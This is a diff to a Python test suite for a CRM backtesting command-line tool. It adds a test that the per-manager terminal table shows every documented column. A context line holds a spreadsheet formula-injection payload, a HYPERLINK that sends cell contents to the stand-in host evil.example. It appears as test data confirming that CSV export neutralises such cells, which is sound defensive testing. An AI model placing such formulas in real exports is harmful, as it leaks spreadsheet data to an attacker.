@@ -321,3 +321,12 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path: Path
     for text in (csv_text([result]), (tmp_path / "backtest.csv").read_text(encoding="utf-8")):
         managers = sorted({r["manager"] for r in csv.DictReader(io.StringIO(text))})
         assert managers == ["'+m4", "'-m3", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"m2\")", "'@m2"]
+
+
+def test_the_terminal_table_per_manager_has_every_column_the_docs_list() -> None:
+    """Found in review: the table left out "client actions" (JSON and HTML have it), and cut "notifications"."""
+    r = run("backtest", "-r", str(RULES.parent / "full.yaml"), "-d", str(RULES.parents[1] / "crm"), "--from",
+            "2026-02-01", "--to", "2026-03-15", "--step", "1w", "-f", "table")  # fmt: skip
+    assert r.returncode == 0, r.stderr
+    header = r.stdout[r.stdout.index("Per manager"):]
+    assert "notifications" in header and "actions" in header and "…" not in header
